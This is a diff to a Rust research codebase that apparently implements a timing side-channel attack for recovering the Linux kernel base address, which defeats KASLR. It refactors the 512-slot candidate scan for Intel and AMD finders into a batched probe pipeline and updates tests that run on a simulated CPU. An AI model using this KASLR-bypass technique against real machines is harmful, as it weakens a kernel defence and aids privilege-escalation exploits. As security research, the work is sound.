@@ -15,6 +15,7 @@ use avx_os::linux::{KASLR_ALIGN, KERNEL_SLOTS, KERNEL_TEXT_REGION_START};
 use crate::calibrate::Threshold;
 use crate::primitives::{LevelAttack, PageTableAttack};
 use crate::prober::{ProbeStrategy, Prober};
+use crate::sweep::AddrRange;
 
 /// Per-candidate record-keeping cost outside the timed probes (loop,
 /// compare, store) used for Table I "Total" accounting.
@@ -75,18 +76,28 @@ impl KernelBaseFinder {
         self
     }
 
-    /// Scans all 512 candidate offsets and recovers the base.
+    /// The 512-slot candidate range of the §IV-B scan.
+    #[must_use]
+    pub fn candidate_range() -> AddrRange {
+        AddrRange::new(
+            VirtAddr::new_truncate(KERNEL_TEXT_REGION_START),
+            KASLR_ALIGN,
+            KERNEL_SLOTS,
+        )
+    }
+
+    /// Scans all 512 candidate offsets and recovers the base. The
+    /// candidates are fed through the batched probe pipeline.
     pub fn scan<P: Prober + ?Sized>(&self, p: &mut P) -> KaslrScan {
         let probing_before = p.probing_cycles();
         let total_before = p.total_cycles();
-        let start = VirtAddr::new_truncate(KERNEL_TEXT_REGION_START);
-        let samples = self
-            .attack
-            .measure_range(p, start, KASLR_ALIGN, KERNEL_SLOTS);
+        let range = Self::candidate_range();
+        let start = range.start;
+        let samples = self.attack.measure_addrs(p, &range.to_vec());
         p.spend(KERNEL_SLOTS * PER_SLOT_OVERHEAD_CYCLES);
         let mapped = self.attack.classify(&samples);
-        let base = first_mapped_run(&mapped, 2)
-            .map(|slot| start.wrapping_add(slot as u64 * KASLR_ALIGN));
+        let base =
+            first_mapped_run(&mapped, 2).map(|slot| start.wrapping_add(slot as u64 * KASLR_ALIGN));
         KaslrScan {
             samples,
             mapped,
@@ -182,19 +193,19 @@ impl AmdKernelBaseFinder {
     }
 
     /// Scans all 512 slots, finds PT-level outliers and matches the
-    /// expected split pattern to recover the base.
+    /// expected split pattern to recover the base. The candidates are
+    /// fed through the batched probe pipeline with a min-filter.
     pub fn scan<P: Prober + ?Sized>(&self, p: &mut P) -> AmdKaslrScan {
         let probing_before = p.probing_cycles();
         let total_before = p.total_cycles();
-        let start = VirtAddr::new_truncate(KERNEL_TEXT_REGION_START);
-        let samples = self
-            .level
-            .measure_range(p, start, KASLR_ALIGN, KERNEL_SLOTS);
+        let range = KernelBaseFinder::candidate_range();
+        let start = range.start;
+        let samples = self.level.measure_addrs(p, &range.to_vec());
         p.spend(KERNEL_SLOTS * PER_SLOT_OVERHEAD_CYCLES);
         let outliers = self.level.outliers(&samples);
-        let base = self.match_pattern(&outliers).map(|slot| {
-            start.wrapping_add(slot as u64 * KASLR_ALIGN)
-        });
+        let base = self
+            .match_pattern(&outliers)
+            .map(|slot| start.wrapping_add(slot as u64 * KASLR_ALIGN));
         AmdKaslrScan {
             samples,
             outliers,
@@ -209,9 +220,10 @@ impl AmdKernelBaseFinder {
     fn match_pattern(&self, outliers: &[usize]) -> Option<usize> {
         let first = self.expected_pattern[0] as usize;
         for &anchor in outliers {
-            let ok = self.expected_pattern.iter().all(|&off| {
-                outliers.contains(&(anchor + off as usize - first))
-            });
+            let ok = self
+                .expected_pattern
+                .iter()
+                .all(|&off| outliers.contains(&(anchor + off as usize - first)));
             if ok && anchor >= first {
                 return Some(anchor - first);
             }
@@ -280,7 +292,10 @@ mod tests {
             .collect();
         let unmapped_mean: f64 =
             unmapped.iter().map(|&s| s as f64).sum::<f64>() / unmapped.len() as f64;
-        assert!((mapped_mean - 93.0).abs() < 2.0, "mapped ≈ 93: {mapped_mean}");
+        assert!(
+            (mapped_mean - 93.0).abs() < 2.0,
+            "mapped ≈ 93: {mapped_mean}"
+        );
         assert!(
             (unmapped_mean - 107.0).abs() < 2.0,
             "unmapped ≈ 107: {unmapped_mean}"
@@ -340,7 +355,7 @@ mod tests {
             let (mut m, truth) = sys.into_machine(CpuProfile::zen3_ryzen5_5600x(), seed);
             m.set_noise(NoiseModel::none());
             let mut p = SimProber::new(m);
-                let scan = AmdKernelBaseFinder::for_default_kernel().scan(&mut p);
+            let scan = AmdKernelBaseFinder::for_default_kernel().scan(&mut p);
             assert_eq!(scan.outliers.len(), 5, "seed {seed}: five 4 KiB slots");
             assert_eq!(scan.base, Some(truth.kernel_base), "seed {seed}");
         }
